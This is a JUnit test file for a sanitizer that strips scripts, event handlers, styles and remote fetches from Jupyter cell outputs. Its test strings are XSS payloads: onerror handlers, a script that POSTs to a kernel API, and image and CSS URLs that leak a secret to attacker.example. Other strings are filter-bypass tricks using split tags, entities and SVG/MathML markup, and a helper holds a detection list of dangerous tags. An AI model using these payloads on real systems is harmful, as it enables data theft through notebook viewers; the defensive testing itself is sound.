package dev.codeagent.application.session;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.codeagent.domain.session.MimeBundle;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

/**
 * A viewer of a cell's output (the Jupyter page, an exported notebook, nbconvert's HTML) is a way out of the sandbox:
 * what a cell displays must not run or fetch anything there. The first three tests are the kernel's own (they were
 * {@code NotebookOutputsTest} in adapter-jupyter), kept with their assertions.
 */
class OutputSanitizerTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Test
    void htmlKeepsTablesAndTextButLosesScriptsHandlersStylesAndFetches() {
        String attack = "<table border=\"1\" class=\"dataframe\"><tr><td onclick=\"steal()\">1</td></tr></table>"
                + "<script>fetch('/api/kernels', {method: 'POST'})</script>"
                + "<img src=\"https://attacker.example/?secret=42\" onerror=\"alert(1)\">"
                + "<style>body { background: url(https://attacker.example/x) }</style>"
                + "<iframe src=\"https://attacker.example\"></iframe>"
                + "<a href=\"javascript:alert(2)\">x</a><b style=\"background:url(https://attacker.example)\">bold</b>";
        String html = OutputSanitizer.bundle(MimeBundle.of("text/html", attack)).data().get("text/html");
        assertThat(html).contains("<table border=\"1\" class=\"dataframe\">", "<td>1</td>", "<b>bold</b>")
                .doesNotContainIgnoringCase("script").doesNotContain("onclick").doesNotContain("onerror")
                .doesNotContain("attacker.example").doesNotContain("javascript:").doesNotContain("iframe")
                .doesNotContain("style");
    }

    @Test
    void activeAndFetchingTypesAreWithheldAndSaidSo() {
        MimeBundle b = OutputSanitizer.bundle(new MimeBundle(Map.of(
                "application/javascript", "alert(1)",
                "image/svg+xml", "<svg onload=\"alert(1)\"/>",
                "text/markdown", "![x](https://attacker.example/?leak)",
                "image/png", "iVBORw0KGgo=")));
        assertThat(b.data()).containsOnlyKeys("image/png");
        MimeBundle only = OutputSanitizer.bundle(MimeBundle.of("application/javascript", "alert(1)"));
        assertThat(only.data()).containsOnlyKeys(MimeBundle.TEXT_PLAIN);
        assertThat(only.data().get(MimeBundle.TEXT_PLAIN)).contains("application/javascript").contains("not passed");
    }

    @Test
    void dataPassesUnchanged() {
        Map<String, String> data = Map.of(MimeBundle.TEXT_PLAIN, "<b>1</b>", "application/json", "{\"a\": 1}");
        assertThat(OutputSanitizer.bundle(new MimeBundle(data)).data()).isEqualTo(data);
        assertThat(OutputSanitizer.escape("<a href='x'>&\"</a>")).isEqualTo("&lt;a href=&#39;x&#39;&gt;&amp;&quot;&lt;/a&gt;");
    }

    @Test
    void everyPayloadOfTheHostileCorpusLeavesNothingActiveAndSanitizingTwiceChangesNothing() throws IOException {
        List<JsonNode> corpus = corpus();
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(30);
        int bundles = 0;
        for (JsonNode entry : corpus) {
            if (!entry.has("data")) {
                continue;
            }
            bundles++;
            MimeBundle once = OutputSanitizer.bundle(bundle(entry));
            String name = entry.get("name").asText();
            assertThat(once.data().keySet()).as(name).isSubsetOf(OutputSanitizer.KEPT);
            String html = once.data().get("text/html");
            if (html != null) {
                assertThat(activeContent(html)).as(name + ": " + html).isEmpty();
            }
            assertThat(OutputSanitizer.bundle(once)).as(name + " twice").isEqualTo(once);
        }
        assertThat(bundles).isGreaterThanOrEqualTo(30);
    }

    @Test
    void theCheckFindsTheCorpusActiveBeforeSanitizing() throws IOException {
        // the check above could pass by finding nothing anywhere: here it must find what the payloads carry
        int active = 0;
        for (JsonNode entry : corpus()) {
            JsonNode html = entry.path("data").path("text/html");
            if (html.isTextual() && !activeContent(html.asText()).isEmpty()) {
                active++;
            }
        }
        assertThat(active).isGreaterThanOrEqualTo(35);
    }

    @Test
    void scriptsHiddenBySplittingEntitiesCaseOrForeignMarkupAreText() {
        String html = OutputSanitizer.html("<scr<script>ipt>alert(1)</scr</script>ipt><A HREF=\"j&#97;vascript:x\">a</A>"
                + "<svg><a xlink:href=\"javascript:x\"><text>t</text></a></svg><math><mtext><table><mglyph><style>"
                + "<img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p title=x onclick=y>p</p>");
        assertThat(html).startsWith("ipt&gt;alert(1)ipt&gt;a<p title=\"x\">p</p>").doesNotContain("<script", "<img", "<svg", "<math", "href",
                "onclick").contains("<p title=\"x\">p</p>", OutputSanitizer.REMOVED_NOTE);
    }

    @Test
    void aDeeplyNestedDocumentDoesNotOverflowTheStack() {
        String deep = "<b>".repeat(200_000) + "x";
        assertThat(OutputSanitizer.html(deep)).contains("x").doesNotContain("<script");
    }

    @Test
    void imagesPassOnlyAsStrictBase64OfTheirOwnFormat() {
        String png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
        assertThat(OutputSanitizer.bundle(MimeBundle.of("image/png", png + "\n")).data()).containsEntry("image/png", png);
        assertThat(OutputSanitizer.bundle(MimeBundle.of("image/png", png + "\" onerror=\"alert(1)")).data())
                .containsOnlyKeys(MimeBundle.TEXT_PLAIN);
        assertThat(OutputSanitizer.bundle(MimeBundle.of("image/jpeg", png)).data()).as("a PNG called JPEG")
                .containsOnlyKeys(MimeBundle.TEXT_PLAIN);
        assertThat(OutputSanitizer.bundle(MimeBundle.of("application/json", "{\"a\": 1} <script>")).data())
                .as("JSON that is not only JSON").containsOnlyKeys(MimeBundle.TEXT_PLAIN);
    }

    static List<JsonNode> corpus() throws IOException {
        try (InputStream in = OutputSanitizerTest.class.getResourceAsStream("hostile-outputs.json")) {
            List<JsonNode> all = new ArrayList<>();
            JSON.readTree(in).forEach(all::add);
            return all;
        }
    }

    static MimeBundle bundle(JsonNode entry) {
        Map<String, String> data = new LinkedHashMap<>();
        entry.get("data").fields().forEachRemaining(f -> data.put(f.getKey(), f.getValue().asText()));
        return new MimeBundle(data);
    }

    /**
     * What a browser would run or fetch in this fragment, by parsing it (jsoup, as a browser would): script-ish
     * elements, on* attributes, URL attributes, styles.
     */
    static List<String> activeContent(String html) {
        List<String> found = new ArrayList<>();
        for (Element e : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            String tag = e.normalName();
            if (List.of("script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "base", "meta", "link",
                    "style", "svg", "math", "template", "img", "input", "button", "video", "audio", "source", "isindex",
                    "noscript", "details", "marquee", "select", "textarea").contains(tag)) {
                found.add("<" + tag + ">");
            }
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                String value = a.getValue().replaceAll("[\\x00-\\x20]", "").toLowerCase(Locale.ROOT);
                if (name.startsWith("on") || name.equals("style") || name.equals("srcdoc") || name.endsWith("href")
                        || name.equals("src") || name.equals("action") || name.equals("formaction") || name.equals("background")
                        || value.startsWith("javascript:") || value.startsWith("data:")) {
                    found.add(tag + "[" + name + "]");
                }
            }
        }
        return found;
    }
}
